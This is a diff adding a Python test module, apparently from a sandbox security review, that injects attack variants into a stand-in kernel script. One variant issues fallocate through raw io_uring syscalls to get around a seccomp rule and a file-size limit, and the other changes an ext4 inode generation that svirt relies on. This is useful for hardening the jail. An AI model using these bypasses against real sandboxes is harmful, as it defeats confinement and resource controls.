@@ -1,0 +1,145 @@
+"""Attacks found by review-a, added to the stand-in UML (standin.py) at install time.
+
+:func:`install` writes ``standin.py`` with this module's attack functions
+put before its ``main`` call: ``attack=grow variant=100`` (and up) reach
+them (``grow`` is looked up when ``main`` runs, so the override wins); every
+other attack is the stand-in's own.  Stdlib only: it runs as the guest's
+uid under ``python3 -I`` inside the jail, where nothing but its own file is.
+
+variant=100  io_uring: ``IORING_OP_FALLOCATE`` with ``FALLOC_FL_KEEP_SIZE``
+             on its own writable disk (``ubd0=``), ``uringmib=N`` MiB past
+             its end (default 64).  seccomp sees ``io_uring_enter``, never
+             the fallocate an io-wq worker makes for it, so the jail's
+             fallocate rule does not apply; ``RLIMIT_FSIZE`` does not bound
+             a ``KEEP_SIZE`` allocation.  One ``URING {json}`` line.
+variant=101  ``FS_IOC_SETVERSION`` on its own disk (a new inode generation:
+             ext4 allows the file's owner); one ``URING {json}`` line.
+"""
+
+from __future__ import annotations
+
+from pathlib import Path
+
+STANDIN = Path(__file__).resolve().parent / "standin.py"
+MAIN = '\nif __name__ == "__main__":'
+
+ATTACKS = r'''
+# ---------------------------------------------------------------- review-a
+_standin_grow = grow
+
+
+def _uring_fallocate(fd: int, mode: int, offset: int, length: int) -> int:
+    """One IORING_OP_FALLOCATE through a fresh io_uring: its result (-errno or 0),
+    or an OSError when io_uring_setup itself fails."""
+    import ctypes
+    import mmap
+
+    libc = ctypes.CDLL(None, use_errno=True)
+    libc.syscall.restype = ctypes.c_long
+    params = (ctypes.c_uint32 * 30)()  # struct io_uring_params: 120 bytes
+    ring = libc.syscall(425, ctypes.c_uint(4), params)  # io_uring_setup
+    if ring < 0:
+        err = ctypes.get_errno()
+        raise OSError(err, os.strerror(err))
+    try:
+        sq_entries, cq_entries = params[0], params[1]
+        # sq_off: head tail ring_mask ring_entries flags dropped array (u32 each) at word 10
+        sq_tail, sq_mask, sq_array = params[11], params[12], params[16]
+        # cq_off at word 20: head tail ring_mask ring_entries overflow cqes
+        cq_head, cq_mask, cqes = params[20], params[22], params[25]
+        size = max(sq_array + 4 * sq_entries, cqes + 16 * cq_entries)
+        rings = mmap.mmap(ring, size, mmap.MAP_SHARED, mmap.PROT_READ | mmap.PROT_WRITE,
+                          offset=0)
+        sqes = mmap.mmap(ring, 64 * sq_entries, mmap.MAP_SHARED,
+                         mmap.PROT_READ | mmap.PROT_WRITE, offset=0x10000000)
+        # IORING_OP_FALLOCATE (17): fd, off = offset, addr = length, len = mode
+        sqe = struct.pack("=BBHiQQIIQ24x", 17, 0, 0, fd, offset, length, mode, 0, 0xA77AC)
+        sqes[0:64] = sqe
+        tail = struct.unpack_from("=I", rings, sq_tail)[0]
+        mask = struct.unpack_from("=I", rings, sq_mask)[0]
+        struct.pack_into("=I", rings, sq_array + 4 * (tail & mask), 0)
+        struct.pack_into("=I", rings, sq_tail, tail + 1)
+        done = libc.syscall(426, ctypes.c_int(ring), ctypes.c_uint(1), ctypes.c_uint(1),
+                            ctypes.c_uint(1), None, ctypes.c_size_t(0))  # io_uring_enter
+        if done < 0:
+            err = ctypes.get_errno()
+            raise OSError(err, os.strerror(err))
+        head = struct.unpack_from("=I", rings, cq_head)[0]
+        cmask = struct.unpack_from("=I", rings, cq_mask)[0]
+        _user, res, _flags = struct.unpack_from("=QiI", rings, cqes + 16 * (head & cmask))
+        rings.close()
+        sqes.close()
+        return int(res)
+    finally:
+        os.close(ring)
+
+
+def _regenerate(opts: dict[str, str], out: int) -> None:
+    """FS_IOC_SETVERSION on its own disk: ext4 lets the file's owner (the
+    guest, once DAC gave it the file) set the inode generation, which svirt
+    takes as part of the object's identity."""
+    import fcntl
+
+    paths = [v for k, v in opts.items() if k.startswith("ubd0")]
+    fd = os.open(paths[0].split(",")[-1], os.O_RDWR)
+    report: dict[str, object] = {"variant": 101, "uid": os.fstat(fd).st_uid}
+    try:
+        (gen,) = struct.unpack("=i", fcntl.ioctl(fd, 0x80087601, b"\0" * 8)[:4])
+        report["generation0"] = gen
+        fcntl.ioctl(fd, 0x40087602, struct.pack("=q", (gen + 1) & 0x7FFFFFFF))
+        (gen,) = struct.unpack("=i", fcntl.ioctl(fd, 0x80087601, b"\0" * 8)[:4])
+        report["generation"] = gen
+    except OSError as err:
+        report["error"] = _errname(err)
+    os.close(fd)
+    os.write(out, b"URING " + json.dumps(report).encode() + b"\n")
+
+
+def grow(opts: dict[str, str], variant: int, out: int) -> None:  # noqa: F811
+    if variant < 100:
+        _standin_grow(opts, variant, out)
+        return
+    if variant == 101:
+        _regenerate(opts, out)
+        return
+    paths = [v for k, v in opts.items() if k.startswith("ubd0")]
+    report: dict[str, object] = {"variant": variant}
+    fd = os.open(paths[0].split(",")[-1], os.O_RDWR)
+    st = os.fstat(fd)
+    report["size0"], report["allocated0"] = st.st_size, st.st_blocks * 512
+    want = int(opts.get("uringmib") or 64) << 20
+    try:
+        import ctypes
+
+        libc = ctypes.CDLL(None, use_errno=True)
+        libc.fallocate.argtypes = [ctypes.c_int, ctypes.c_int, ctypes.c_long, ctypes.c_long]
+        rc = libc.fallocate(fd, 0x01, st.st_size, want)
+        report["direct"] = "done" if rc == 0 else errno.errorcode.get(ctypes.get_errno(), "?")
+    except OSError as err:
+        report["direct"] = _errname(err)
+    try:
+        res = _uring_fallocate(fd, 0x01, st.st_size, want)  # FALLOC_FL_KEEP_SIZE
+        report["uring"] = "done" if res == 0 else errno.errorcode.get(-res, str(res))
+    except OSError as err:
+        report["uring"] = f"setup {_errname(err)}"
+    st = os.fstat(fd)
+    report["size"], report["allocated"] = st.st_size, st.st_blocks * 512
+    os.close(fd)
+    os.write(out, b"URING " + json.dumps(report).encode() + b"\n")
+'''
+
+
+def source() -> str:
+    """standin.py with the attacks above before its main call."""
+    text = STANDIN.read_text()
+    head, sep, tail = text.rpartition(MAIN)
+    assert sep, "standin.py has no main call"
+    return head + ATTACKS + sep + tail
+
+
+def install(directory: Path) -> Path:
+    """The extended stand-in as a kernel other uids can execute."""
+    kernel = directory / "linux-standin-review-a"
+    kernel.write_text(source())
+    kernel.chmod(0o755)
+    return kernel
